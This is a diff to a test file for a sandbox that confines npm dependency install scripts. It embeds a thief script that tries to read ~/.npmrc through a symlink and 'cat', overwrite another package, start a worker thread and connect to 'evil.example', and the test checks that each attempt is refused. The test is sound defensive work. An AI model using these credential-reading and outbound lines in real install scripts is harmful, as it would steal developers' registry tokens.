@@ -1,4 +1,4 @@
-"""Install scripts of dependencies are careful: an honest one works, a thief is refused and told; children of a script
+"""Install scripts of dependencies are careful and confined: an honest one works, a thief is refused and told; children of a script
 have no more than it has."""
 
 from tests.machine.browser import Machine
@@ -17,6 +17,7 @@ attempt('other package', () => fs.writeFileSync('../honest/index.js', 'stolen'))
 attempt('symlink', () => { fs.symlinkSync(process.env.HOME, 'out'); return fs.readFileSync('out/.npmrc', 'utf8') })
 attempt('child', () => cp.execSync('cat ~/.npmrc 2>&1 || true'))
 attempt('policy', () => fs.mkdirSync(process.env.INIT_CWD + '/.terrarium'))
+attempt('thread', () => new (require('worker_threads').Worker)('1', {eval: true}))
 attempt('own', () => { fs.writeFileSync('own.txt', 'mine'); return 'written' })
 net.connect(443, 'evil.example').on('error', (error) => { tried.host = error.code; fs.writeFileSync('tried.json', JSON.stringify(tried)) })
 """
@@ -66,6 +67,7 @@ def test_a_thief_gets_nothing_and_is_told(machine: Machine, registry: Registry) 
         '"symlink":"EACCES"',
         '"policy":"EACCES"',
         '"own":"written"',
+        '"thread":"ERR_WORKER_INIT_FAILED"',
         '"host":"EACCES"',
         'mine',
         'yes',
